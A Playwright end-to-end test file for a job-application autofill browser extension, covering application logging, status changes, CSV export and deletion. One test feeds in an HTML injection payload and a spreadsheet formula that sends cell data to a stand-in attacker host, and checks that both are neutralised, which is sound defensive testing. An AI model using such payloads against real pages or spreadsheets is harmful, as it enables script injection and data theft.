import type { Page, Worker } from '@playwright/test';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';

const csvParseRows = (text: string): string[][] => parse(text);
import type { FillReport } from '../../core/contract';
import { expect, test } from './fixtures';
import { fieldsOnPage, frameOf, loadFixtures, openSession, sendFromExtensionPage, serveFixture, tabIdOf, useProfile, type Session } from './autofill-harness';

const classic = loadFixtures().find((spec) => spec.group === 'greenhouse' && spec.file === 'classic.html')!;

const storedLog = (background: Worker): Promise<any> => background.evaluate(async () => (await chrome.storage.local.get('applications')).applications ?? null);

/** The page handles its own submit, as ATS pages do (no navigation in the test). */
const keepSubmitsInPage = (page: Page) => page.evaluate(() => document.addEventListener('submit', (event) => event.preventDefault()));

async function openGreenhouse(session: Session): Promise<{ page: Page; tabId: number }> {
  await serveFixture(session.context, classic);
  // The same page at an address with tracking parameters, as links from job boards carry.
  const html = await readFile(path.join(classic.dir, classic.file), 'utf8');
  await session.context.route(
    (url) => url.href.startsWith(`${classic.url}?`),
    (route) => route.fulfill({ contentType: 'text/html', body: html }),
  );
  await useProfile(session.background, 'rich');
  const page = await session.context.newPage();
  await page.goto(classic.url + '?gh_src=linkedin&utm_source=newsletter');
  await keepSubmitsInPage(page);
  return { page, tabId: await tabIdOf(session.background, page) };
}

async function openLog(session: Session): Promise<Page> {
  const options = await session.context.newPage();
  await options.goto(new URL('/options.html#applications', session.popup.url()).href);
  return options;
}

test('a fill records the job; the form’s submit makes it Applied; a second fill updates the same entry; the CSV parses back', async () => {
  const session = await openSession();
  try {
    const { page, tabId } = await openGreenhouse(session);
    const report = await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId });
    expect(report.filled).toBeGreaterThan(5);
    await expect
      .poll(() => storedLog(session.background))
      .toMatchObject([
        {
          url: 'https://boards.greenhouse.io/acmerobotics/jobs/4012345',
          company: 'Acme Robotics',
          role: 'Senior Backend Engineer',
          ats: 'greenhouse',
          status: 'filled',
          filled: report.filled,
        },
      ]);

    await page.locator('#submit_app').click();
    await expect.poll(async () => (await storedLog(session.background))?.[0]?.status).toBe('applied');
    const firstFill = (await storedLog(session.background))[0].filledAt;

    // The same job opened again later (its form empty again) and filled again.
    await page.goto(classic.url);
    await keepSubmitsInPage(page);
    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: await tabIdOf(session.background, page) });
    await expect.poll(async () => (await storedLog(session.background))[0].filledAt).not.toBe(firstFill);
    const log = await storedLog(session.background);
    expect(log).toHaveLength(1);
    expect(log[0]).toMatchObject({ status: 'applied', company: 'Acme Robotics' });

    const options = await openLog(session);
    const section = options.getByRole('region', { name: 'Applications' });
    await expect(section.getByRole('heading', { name: 'Acme Robotics: Senior Backend Engineer' })).toBeVisible();
    await expect(section.getByLabel('Status')).toHaveValue('applied');
    await section.getByLabel('Note').fill('Recruiter: Sam');
    await section.getByLabel('Note').blur();
    await section.getByLabel('Status').selectOption('interview');
    await expect.poll(async () => (await storedLog(session.background))[0]).toMatchObject({ status: 'interview', note: 'Recruiter: Sam' });

    const [download] = await Promise.all([options.waitForEvent('download'), section.getByRole('button', { name: 'Save the log as CSV' }).click()]);
    const csv = await readFile(await download.path(), 'utf8');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = csvParseRows(csv.slice(1));
    expect(rows[0]).toEqual(['company', 'role', 'ats', 'url', 'status', 'filled_at', 'applied_at', 'note']);
    expect(rows.slice(1)).toEqual([
      [
        'Acme Robotics',
        'Senior Backend Engineer',
        'greenhouse',
        'https://boards.greenhouse.io/acmerobotics/jobs/4012345',
        'interview',
        log[0].filledAt,
        log[0].appliedAt,
        'Recruiter: Sam',
      ],
    ]);

    // The popup counts it, and delete → undo brings it back.
    const popup = await session.context.newPage();
    await popup.goto(session.popup.url());
    await expect(popup.getByText('1 application this week')).toBeVisible();
    await section.getByRole('button', { name: 'Delete Acme Robotics: Senior Backend Engineer' }).click();
    await expect.poll(() => storedLog(session.background)).toEqual([]);
    await section.getByRole('button', { name: 'Undo', exact: true }).click();
    await expect.poll(async () => (await storedLog(session.background)).length).toBe(1);

    // "Delete all…" asks first: Escape keeps the log, the dialog's own Delete all empties it.
    await section.getByRole('button', { name: 'Delete all…' }).click();
    const confirm = options.getByRole('dialog', { name: 'Delete the one application in the log?' });
    await expect(confirm).toBeVisible();
    await options.keyboard.press('Escape');
    await expect(confirm).toBeHidden();
    expect(await storedLog(session.background)).toHaveLength(1);
    await section.getByRole('button', { name: 'Delete all…' }).click();
    await confirm.getByRole('button', { name: 'Delete all', exact: true }).click();
    await expect(confirm).toBeHidden();
    await expect.poll(() => storedLog(session.background)).toEqual([]);
  } finally {
    await session.close();
  }
});

test('the ATS’s confirmation marks the job Applied: a confirmation page after the fill, or a message after a scripted send; another site’s thanks does not', async () => {
  const session = await openSession();
  const thanks = (text: string) => `<!doctype html><title>Application received</title><h1>${text}</h1><p>We will be in touch.</p>`;
  try {
    // 1. A confirmation page of its own on the form's site, after the form's page is gone.
    const { page, tabId } = await openGreenhouse(session);
    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId });
    await expect.poll(async () => (await storedLog(session.background))?.[0]?.status).toBe('filled');
    // A thank-you page on another ATS's site in the same tab says nothing about this job.
    await session.context.route('https://jobs.lever.co/otherco/thanks', (route) =>
      route.fulfill({ contentType: 'text/html', body: thanks('Thank you for applying!') }),
    );
    await page.goto('https://jobs.lever.co/otherco/thanks');
    await page.waitForTimeout(500);
    expect((await storedLog(session.background))[0].status).toBe('filled');
    const confirmation = `${classic.url}/confirmation`;
    await session.context.route(confirmation, (route) => route.fulfill({ contentType: 'text/html', body: thanks('Thank you for applying to Acme Robotics!') }));
    await page.goto(confirmation);
    await expect.poll(async () => (await storedLog(session.background))?.[0]?.status).toBe('applied');

    // 2. A form that sends by script (no submit event) and then says so in the page.
    const scripted = 'https://jobs.ashbyhq.com/scriptco/3c1d2e4f-5a6b-4c7d-8e9f-0a1b2c3d4e5f/application';
    await session.context.route(scripted, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>Backend Engineer @ Scriptco</title><h1>Backend Engineer</h1><div id="app">
          <label for="n">Full Name</label><input id="n" name="name"><label for="e">Email</label><input id="e" type="email" name="email">
          <label for="r">Resume</label><input id="r" type="file" name="resume"><button type="button" id="send">Submit Application</button></div><div role="status" id="s"></div>
          <script>document.getElementById('send').addEventListener('click', () => setTimeout(() => { document.getElementById('app').remove(); document.getElementById('s').textContent = 'Your application was submitted.'; }, 300));</script>`,
      }),
    );
    const other = await session.context.newPage();
    await other.goto(scripted);
    const otherTab = await tabIdOf(session.background, other);
    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: otherTab });
    const entryOf = async (company: string) => ((await storedLog(session.background)) ?? []).find((entry: any) => entry.company === company);
    await expect.poll(async () => (await entryOf('Scriptco'))?.status).toBe('filled');
    await other.locator('#send').click();
    await expect.poll(async () => (await entryOf('Scriptco'))?.status, { timeout: 5000 }).toBe('applied');
    // The first job's entry is untouched by the second's confirmation.
    expect((await entryOf('Acme Robotics'))?.status).toBe('applied');
  } finally {
    await session.close();
  }
});

test('with recording off, a fill writes nothing to the log', async () => {
  const session = await openSession();
  try {
    await session.background.evaluate(() => chrome.storage.local.set({ settings: { recordApplications: false } }));
    const { tabId } = await openGreenhouse(session);
    const report = await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId });
    expect(report.filled).toBeGreaterThan(5);
    // The report is kept for the card after the answer; the log would be written in the same step.
    await expect
      .poll(() => session.background.evaluate(async (id) => Boolean((await chrome.storage.session.get(`lastFill:${id}`))[`lastFill:${id}`]), tabId))
      .toBe(true);
    expect(await storedLog(session.background)).toBeNull();
  } finally {
    await session.close();
  }
});

test('a hostile page title and company are shown as text and exported as text', async () => {
  const hostileRole = '<img src=x onerror="window.__pwned=1">Engineer';
  const hostileCompany = '=HYPERLINK("https://evil.example/?"&A1,"Acme")';
  const session = await openSession();
  try {
    const url = 'https://boards.greenhouse.io/evil/jobs/1';
    const escape = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
    await session.context.route(url, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<!doctype html><title>Job Application</title><h1 class="app-title">${escape(hostileRole)}</h1><span class="company-name">${escape(hostileCompany)}</span>
          <form><label for="fn">First Name</label><input id="fn" name="job_application[first_name]"><label for="em">Email</label><input id="em" type="email" name="job_application[email]">
          <label for="cv">Resume/CV</label><input id="cv" type="file" name="job_application[resume]"></form>`,
      }),
    );
    await useProfile(session.background, 'rich');
    const page = await session.context.newPage();
    await page.goto(url);
    await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: await tabIdOf(session.background, page) });
    await expect.poll(async () => (await storedLog(session.background))?.[0]).toMatchObject({ role: hostileRole, company: hostileCompany });

    const options = await openLog(session);
    const section = options.getByRole('region', { name: 'Applications' });
    await expect(section.getByRole('heading', { level: 4 })).toHaveText(`${hostileCompany}: ${hostileRole}`);
    expect(await options.locator('#applications img').count()).toBe(0);
    expect(await options.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    const [download] = await Promise.all([options.waitForEvent('download'), section.getByRole('button', { name: 'Save the log as CSV' }).click()]);
    const row = csvParseRows((await readFile(await download.path(), 'utf8')).slice(1))[1]!;
    expect(row[0]).toBe(`'${hostileCompany}`);
    expect(row[1]).toBe(hostileRole);
  } finally {
    await session.close();
  }
});

test('every fixture application page: a fill records the company and the role a person reads on it', async () => {
  test.setTimeout(180_000);
  // Pages framed in a site no ATS serves need a build with access to that site: one session each.
  const groups = [
    loadFixtures().filter((spec) => !spec.activeTabOn),
    ...loadFixtures()
      .filter((spec) => spec.activeTabOn)
      .map((spec) => [spec]),
  ];
  for (const specs of groups) {
    const session = await openSession(specs[0]);
    try {
      await useProfile(session.background, 'rich');
      const page = await session.context.newPage();
      for (const spec of specs) {
        await serveFixture(session.context, spec);
        await session.background.evaluate(() => chrome.storage.local.remove('applications'));
        await page.goto(spec.url);
        await fieldsOnPage(frameOf(page, spec), Object.keys(spec.fields));
        await sendFromExtensionPage<FillReport>(session.popup, { type: 'autofill', tabId: await tabIdOf(session.background, page) });
        await expect
          .soft(async () => {
            const [entry] = (await storedLog(session.background)) ?? [];
            expect({ company: entry?.company, role: entry?.role }).toEqual(spec.posting);
          }, `${spec.group}/${spec.file}`)
          .toPass({ timeout: 3000 });
      }
    } finally {
      await session.close();
    }
  }
});
